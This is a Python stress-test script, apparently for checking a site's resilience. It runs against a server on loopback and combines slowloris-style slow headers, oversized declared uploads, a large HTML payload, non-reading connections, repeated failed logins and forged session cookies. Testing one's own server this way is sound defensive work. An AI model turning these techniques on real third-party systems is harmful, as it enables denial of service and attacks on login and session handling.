"""What one address can do at its worst to a site on loopback, for as long as it is let.

Usage: attack.py PORT

Prints a line once all of it is under way, and at the end how often each kind was answered with what.
"""
import asyncio
import collections
import json
import logging
import signal
import sys

HERE = "127.0.0.1"
LARGEST = 20 << 20
BOMB = b"<html><body><p " + b" ".join(b"a%d" % i for i in range(40_000)) + b">" + b"x" * 500_000 + b"</p></body></html>"
heard = collections.Counter()


class Attack:
    def __init__(self, port):
        self.port = port

    async def open(self, buffer=None):
        reader, writer = await asyncio.open_connection(HERE, self.port, limit=buffer or 65536, local_addr=(HERE, 0))
        return reader, writer

    def head(self, method, path, *headers):
        return "\r\n".join([f"{method} {path} HTTP/1.1", "Host: a", *headers, "", ""]).encode()

    async def answered(self, kind, reader):
        """The status of an answer, whose body is read as well."""
        line = await reader.readline()
        if not line:
            heard[kind, "closed"] += 1
            raise ConnectionResetError(kind)
        status = line.split(b" ")[1].decode() if line.startswith(b"HTTP/1.1 ") else "no answer"
        heard[kind, status] += 1
        length = 0
        while (header := await reader.readline()) not in (b"\r\n", b""):
            if header.lower().startswith(b"content-length:"):
                length = int(header.split(b":")[1])
        await reader.readexactly(length)
        return status

    async def upload_of_one_byte(self, path, *headers):
        reader, writer = await self.open()
        writer.write(self.head("POST", path, f"Content-Length: {LARGEST}", *headers) + b"a")
        await reader.read()
        writer.close()

    async def slow_header(self):
        reader, writer = await self.open()
        writer.write(b"GET / HTTP/1.1\r\nHost: a\r\nX: ")
        while not (reader.at_eof() or writer.is_closing()):
            writer.write(b"a")
            await writer.drain()
            try:
                await asyncio.wait_for(reader.read(1), 1)
            except asyncio.TimeoutError:
                pass
        writer.close()

    async def rests(self):
        reader, writer = await self.open()
        writer.write(self.head("GET", "/term"))
        await self.answered("resting", reader)
        await reader.read()
        writer.close()

    async def does_not_read(self):
        reader, writer = await self.open(buffer=1)
        writer.transport.pause_reading()
        for _ in range(20):
            writer.write(self.head("GET", "/rules"))
        for _ in range(20):
            if not writer.is_closing():
                await asyncio.sleep(1)
        writer.close()

    async def bomb(self):
        reader, writer = await self.open()
        while True:
            writer.write(self.head("POST", "/check", f"Content-Length: {len(BOMB)}", "Content-Type: text/html") + BOMB)
            await writer.drain()
            await self.answered("bomb", reader)

    async def wrong_password(self, number):
        reader, writer = await self.open()
        body = json.dumps({"login": f"x{number}", "password": "wrong"}).encode()
        for _ in range(20):
            writer.write(self.head("POST", "/api/session", f"Content-Length: {len(body)}",
                                   "Content-Type: application/json") + body)
            await self.answered("wrong password", reader)
        writer.close()

    async def forged_session(self, number):
        reader, writer = await self.open()
        while True:
            writer.write(self.head("GET", "/api/organs/900121-1/duties", f"Cookie: __Host-gongkai=900121.forged{number}"))
            await self.answered("forged session", reader)

    async def again_and_again(self, what, *arguments):
        while True:
            try:
                await what(*arguments)
            except (OSError, asyncio.IncompleteReadError, ValueError):
                heard["", "cut off"] += 1
            await asyncio.sleep(1)

    async def run(self):
        forged = "Cookie: __Host-gongkai=900121.forged"
        kinds = [(8, self.bomb), (16, self.upload_of_one_byte, "/check"),
                 (16, self.upload_of_one_byte, "/api/organs/900121-1/documents/2025-0001/attachments", forged),
                 *((1, self.wrong_password, number) for number in range(10)),
                 *((1, self.forged_session, number) for number in range(8)),
                 (150, self.does_not_read), (600, self.slow_header), (600, self.rests)]
        all_of_it = [asyncio.create_task(self.again_and_again(*what)) for count, *what in kinds for _ in range(count)]
        await asyncio.sleep(1)
        print("under way", flush=True)
        stop = asyncio.Event()
        asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
        await stop.wait()
        for each in all_of_it:
            each.cancel()
        print("the attack heard: " + ", ".join(f"{kind} {status} {count}x".strip()
                                               for (kind, status), count in sorted(heard.items())))


if __name__ == "__main__":
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)  # that it is cut off is what is tried
    asyncio.run(Attack(int(sys.argv[1])).run())
